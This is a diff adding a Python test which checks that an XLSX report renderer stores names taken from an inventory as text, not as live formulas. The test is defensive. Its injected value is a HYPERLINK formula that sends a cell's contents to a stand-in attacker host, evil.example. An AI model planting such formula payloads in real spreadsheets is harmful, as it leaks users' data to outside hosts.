@@ -101,6 +101,30 @@ def test_xlsx_record_layout(run):
     assert list(en["linux-000"].iter_rows(values_only=True))[1][3] == "Record"
 
 
+def test_xlsx_record_writes_text_as_text_never_as_formulas(run, tmp_path):
+    """Object names and ids come from the inventory: `=HYPERLINK(...)` must not become a live formula."""
+    import copy
+    import shutil
+    import zipfile
+
+    openpyxl = pytest.importorskip("openpyxl")
+    _run_dir, doc, _files = run
+    doc = copy.deepcopy(doc)
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    doc["objects"][0].update(address="", name=hostile)
+    doc["remediation"][0]["objects"] = ["=1+1"]
+    run_dir = shutil.copytree(_run_dir, tmp_path / "run")
+    (path,) = reports.render(doc, run_dir, ["xlsx"])
+    with zipfile.ZipFile(path) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert not any("<f>" in s or "<f " in s for s in sheets)
+    wb = openpyxl.load_workbook(path)
+    first = wb[wb.sheetnames[0]]
+    assert first["B1"].value.startswith(hostile) and first["B1"].data_type == "s" and first["B1"].quotePrefix
+    cells = [c for row in wb[wb.sheetnames[-1]].iter_rows() for c in row if c.value == "=1+1"]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
 def test_markdown_sections(run):
     _run_dir, doc, files = run
     md = files["report.md"].read_text(encoding="utf-8")
